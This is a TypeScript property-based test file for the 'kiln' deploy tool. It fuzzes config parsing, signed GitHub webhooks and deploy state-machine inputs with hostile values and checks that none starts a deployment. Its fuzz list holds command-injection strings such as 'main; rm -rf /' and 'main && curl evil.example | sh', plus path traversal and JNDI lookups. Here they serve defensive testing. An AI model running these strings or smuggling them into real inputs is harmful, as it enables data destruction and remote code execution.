/**
 * Property-based checks of everything that enters kiln from outside, on the local stack (the same
 * handlers and wiring as serverless.yml, virtual time):
 * - config files: `parseConfig` answers a config or a `kiln.ConfigInvalid` that says where, never
 *   anything else;
 * - webhook deliveries (correctly signed with the stack's secret, so they get past the signature):
 *   an HTTP answer, never a crash, and no execution unless it is a push to a mapped branch;
 * - deploy state machine inputs: StartExecution with arbitrary or hostile JSON fails at `Prepare`
 *   with `kiln.InvalidInput` / `kiln.ConfigInvalid`, and nothing is created in the cloud.
 */
import { createHmac } from "node:crypto";
import { DescribeAutoScalingGroupsCommand, AutoScalingClient } from "@aws-sdk/client-auto-scaling";
import { DescribeInstancesCommand, DescribeImagesCommand, EC2Client } from "@aws-sdk/client-ec2";
import { ListExecutionsCommand, SFNClient, StartExecutionCommand } from "@aws-sdk/client-sfn";
import fc from "fast-check";
import { stringify } from "yaml";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseConfig } from "../../lib/config/index.ts";
import { ConfigInvalidError } from "../../lib/errors.ts";
import type { LambdaBackend } from "../../local/cloud/services/lambda/index.ts";
import { statesBackend } from "../../local/states/api.ts";
import { Stack } from "../../local/stack.ts";

const hex40 = fc.string({ unit: fc.constantFrom(..."0123456789abcdef"), minLength: 40, maxLength: 40 });

/** Strings an attacker controls in a push: shell metacharacters, path tricks, control characters. */
const hostile = fc.oneof(
  fc.constantFrom(
    "$(reboot)",
    "`id`",
    "main; rm -rf /",
    "main && curl evil.example | sh",
    "'\"$IFS",
    "../../etc/passwd",
    "main\nKILN_COMMIT=0",
    "-rf",
    "a".repeat(300),
    "main\u0000",
    "${jndi:ldap://x}",
    "refs/heads/main",
  ),
  fc.string({ maxLength: 60 }),
);

describe("parseConfig properties", () => {
  const baseService = {
    repository: "example/web",
    branches: { main: "production" },
    region: "us-east-1",
    baseAmi: { ssmParameter: "/aws/service/ami" },
    builder: { instanceType: "t3.small", instanceProfile: "kiln-builder" },
    scripts: { install: "true", imageTest: "true", smokeTest: "true", serviceIn: "true", serviceOut: "true" },
    listener: { loadBalancer: "kiln-web", port: 80 },
    targetGroups: ["kiln-web-a", "kiln-web-b"],
  };

  it("arbitrary text: a config or kiln.ConfigInvalid, nothing else", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 400 }),
          fc.jsonValue({ maxDepth: 4 }).map((v) => stringify(v)),
        ),
        (text) => {
          try {
            parseConfig(text);
          } catch (err) {
            expect(err).toBeInstanceOf(ConfigInvalidError);
            expect((err as Error).name).toBe("kiln.ConfigInvalid");
            expect((err as Error).message.length).toBeGreaterThan(0);
          }
        },
      ),
      { numRuns: 200 },
    );
  });

  it("a service with a hostile name, branch or repository is rejected with the offending path", () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom("name", "branch", "repository"), (value, where) => {
        const service = {
          ...baseService,
          ...(where === "branch" ? { branches: { [value]: "production" } } : {}),
          ...(where === "repository" ? { repository: value } : {}),
        };
        const name = where === "name" ? value : "web";
        const text = stringify({ version: 1, services: { [name]: service } });
        let parsed: unknown;
        try {
          parsed = parseConfig(text);
        } catch (err) {
          expect((err as Error).name).toBe("kiln.ConfigInvalid");
          return;
        }
        // Accepted only if the value is in fact a plain identifier.
        expect(
          where === "branch"
            ? /^[A-Za-z0-9._/-]+$/.test(value)
            : where === "name"
              ? /^[a-z][a-z0-9-]{0,23}$/.test(value)
              : /^[A-Za-z0-9-]+\/[A-Za-z0-9._-]+$/.test(value),
        ).toBe(true);
        expect(parsed).toBeDefined();
      }),
      { numRuns: 150 },
    );
  });
});

describe("on the local stack", () => {
  let stack: Stack;
  let sfn: SFNClient;
  let ec2: EC2Client;
  let autoscaling: AutoScalingClient;
  let deployArn: string;

  beforeAll(async () => {
    // The webhook logs every answer; these runs make hundreds.
    process.env.KILN_LOG_LEVEL ??= "error";
    stack = await Stack.start({ clock: "virtual", port: false, seed: 11, console: false } as Parameters<typeof Stack.start>[0]);
    const cfg = stack.cloud.clientConfig();
    sfn = new SFNClient(cfg);
    ec2 = new EC2Client(cfg);
    autoscaling = new AutoScalingClient(cfg);
    deployArn = Object.values(stack.info().stateMachines).find((a) => a.endsWith("-deploy"))!;
  });
  afterAll(async () => {
    await stack?.stop();
  });

  async function nothingCreated(): Promise<void> {
    const instances = await ec2.send(new DescribeInstancesCommand({}));
    expect(instances.Reservations ?? []).toHaveLength(0);
    const images = await ec2.send(new DescribeImagesCommand({ Owners: ["self"] }));
    expect(images.Images ?? []).toHaveLength(0);
    const groups = await autoscaling.send(new DescribeAutoScalingGroupsCommand({}));
    expect(groups.AutoScalingGroups ?? []).toHaveLength(0);
  }

  async function executions(): Promise<number> {
    return (await sfn.send(new ListExecutionsCommand({ stateMachineArn: deployArn }))).executions?.length ?? 0;
  }

  it("webhook: signed arbitrary deliveries get an answer and start nothing", async () => {
    const lambda = stack.cloud.backend<LambdaBackend>("lambda");
    const before = await executions();
    const pushLike = fc.record({
      ref: fc.oneof(
        hostile.map((b) => `refs/heads/${b}`),
        hostile,
        fc.constant("refs/tags/v1"),
      ),
      after: fc.oneof(hostile, hex40),
      deleted: fc.boolean(),
      repository: fc.record({ full_name: fc.oneof(fc.constant("example/web"), hostile) }, { requiredKeys: [] }),
      head_commit: fc.option(fc.record({ id: hostile, message: hostile }), { nil: null }),
    });
    let n = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          pushLike.map((p) => JSON.stringify(p)),
          fc.json({ maxDepth: 3 }),
          fc.string({ maxLength: 200 }),
        ),
        fc.constantFrom("push", "ping", "pull_request", "", "PUSH"),
        async (body, event) => {
          const headers: Record<string, string> = {
            "content-type": "application/json",
            "x-github-event": event,
            "x-github-delivery": `00000000-0000-4000-8000-${String(++n).padStart(12, "0")}`,
            // Signed as GitHub signs (HMAC-SHA256 of the raw body), empty bodies included.
            "x-hub-signature-256": `sha256=${createHmac("sha256", stack.webhookSecret).update(body).digest("hex")}`,
          };
          const r = await lambda.invoke(stack.functions.webhook!, {
            version: "2.0",
            rawPath: "/",
            headers,
            requestContext: { http: { method: "POST", path: "/" } },
            body,
            isBase64Encoded: false,
          });
          expect(r.functionError, r.payload).toBeUndefined();
          const res = JSON.parse(r.payload) as { statusCode: number; body?: string };
          expect([200, 202, 400, 413, 415, 422]).toContain(res.statusCode);
        },
      ),
      { numRuns: 40 },
    );
    // A push to example/web's `main` with a hostile commit id is refused before anything starts.
    expect(await executions()).toBe(before);
    await nothingCreated();
  });

  it("deploy machine: arbitrary or hostile input fails at Prepare with a clear error and creates nothing", async () => {
    const states = statesBackend(stack.cloud);
    const inputs = fc.oneof(
      fc.jsonValue({ maxDepth: 3 }),
      fc.record(
        {
          service: fc.oneof(fc.constant("web"), hostile),
          commit: hostile,
          trigger: fc.constantFrom("push", "rotation", "operator", "x"),
          branch: hostile,
        },
        { requiredKeys: [] },
      ),
      fc.record({
        service: fc.constant("web"),
        commit: hex40,
        trigger: fc.constant("push"),
        branch: hostile,
        repository: hostile,
      }),
    );
    let n = 0;
    await fc.assert(
      fc.asyncProperty(inputs, async (input) => {
        const r = await sfn.send(
          new StartExecutionCommand({ stateMachineArn: deployArn, name: `prop-${++n}`, input: JSON.stringify(input) }),
        );
        const clock = stack.cloud.clock;
        let timer: ReturnType<typeof clock.setTimeout> | undefined;
        const deadline = new Promise<never>((_, reject) => {
          timer = clock.setTimeout(
            () => reject(new Error("execution did not close within an hour of simulated time")),
            3_600_000,
          );
        });
        const done = await Promise.race([states.awaitExecution(r.executionArn!), deadline]).finally(() =>
          clock.clearTimeout(timer),
        );
        expect(done.status, JSON.stringify(input)).toBe("FAILED");
        expect(["kiln.InvalidInput", "kiln.ConfigInvalid"], `${done.error}: ${done.cause}`).toContain(done.error);
        const entered = states.history(r.executionArn!).filter((h) => String(h.type).endsWith("StateEntered"));
        expect(
          entered.map((h) => (h as { stateEnteredEventDetails?: { name?: string } }).stateEnteredEventDetails?.name),
        ).toEqual(["Prepare"]);
      }),
      { numRuns: 30 },
    );
    await nothingCreated();
  });
});
